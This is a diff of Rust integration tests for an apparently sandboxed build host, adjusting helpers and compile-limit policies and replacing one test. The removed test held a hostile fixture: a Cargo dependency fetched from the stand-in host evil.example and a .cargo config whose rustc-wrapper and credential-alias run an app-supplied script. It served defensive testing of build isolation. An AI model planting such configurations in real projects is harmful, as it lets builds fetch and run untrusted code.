@@ -9,7 +9,7 @@ use oarlock_tests::need_program;
 use crate::binary;
 
 /// An app whose build is `script`; a component lies there already.
-fn tenant(apps: &Apps, app: &str, script: &str) {
+pub(super) fn tenant(apps: &Apps, app: &str, script: &str) {
     apps.add(
         app,
         "[processes]\nweb = \"web.wasm\"\n[build]\ncommand = \"sh build.sh\"\n",
@@ -18,7 +18,7 @@ fn tenant(apps: &Apps, app: &str, script: &str) {
     apps.write(&format!("{app}/build.sh"), script);
 }
 
-fn building(apps: &Apps, policy: &str) -> Launch {
+pub(super) fn building(apps: &Apps, policy: &str) -> Launch {
     need_program("bwrap", "bubblewrap");
     let mut launch = apps.serve(binary()).args(&["--build"]);
     launch.command.env("SECRET_OF_THE_HOST", "environment");
@@ -154,32 +154,17 @@ async fn a_killed_host_leaves_no_fenced_build_behind() {
 }
 
 #[tokio::test]
-async fn a_fetch_runs_nothing_of_the_app_and_reaches_only_the_registries() {
+async fn the_start_says_in_one_line_how_builds_are_held_to_their_bounds() {
     let apps = Apps::new();
     tenant(&apps, "ada", "true");
-    let lib = "[package]\nname = \"ada\"\nversion = \"0.1.0\"\nedition = \"2024\"\n\
-               [lib]\npath = \"lib.rs\"\n\
-               [dependencies]\nevil = { git = \"https://evil.example/evil\" }\n";
-    apps.write("ada/Cargo.toml", lib);
-    apps.write("ada/lib.rs", "");
-    apps.write("ada/evil.sh", "#!/bin/sh\ntouch /build/ran\nexec \"$@\"\n");
-    apps.write(
-        "ada/.cargo/config.toml",
-        "[build]\nrustc-wrapper = \"/build/evil.sh\"\n[net]\ngit-fetch-with-cli = true\n\
-         [http]\nproxy = \"\"\n[credential-alias]\nx = [\"/build/evil.sh\"]\n",
-    );
     let host = running(building(&apps, ""), &["ada"]).await;
-    host.output.wait_for("the fetch failed").await;
-    let all = host.output.lines().join("\n");
-    // Without cargo on this machine the fetch fails before it asks for anything.
+    let line = host.output.wait_for("Fencing each build").await;
+    // Which of the two is this machine's matter.
+    let none = line.contains("no control group is delegated: ")
+        && line.contains("; rlimits hold for each process alone");
     assert!(
-        all.contains("evil.example:443") && all.contains("`[build] fetch`")
-            || all.contains("not found"),
-        "{all}"
-    );
-    assert!(
-        !apps.path("ada/ran").exists(),
-        "the fetch ran the app's code"
+        none || line.contains("in a control group of its own below /"),
+        "{line}"
     );
     assert_eq!(host.interrupt().await, Some(0));
 }
@@ -235,7 +220,9 @@ async fn a_component_that_is_dear_to_compile_is_refused_by_the_setting() {
     std::fs::write(apps.path("bomb/bomb.wasm"), bomb()).unwrap();
     for (key, policy) in [
         ("[compile] cpu", "[compile]\ncpu = \"1s\"\n"),
+        ("[compile] memory", "[compile]\nmemory = \"16 MiB\"\n"),
         ("[compile] memory", "[compile]\nmemory = \"100 MiB\"\n"),
+        ("[compile] deadline", "[compile]\ndeadline = \"1s\"\n"),
     ] {
         apps.write("policy.toml", policy);
         let mut launch = apps.serve(binary());
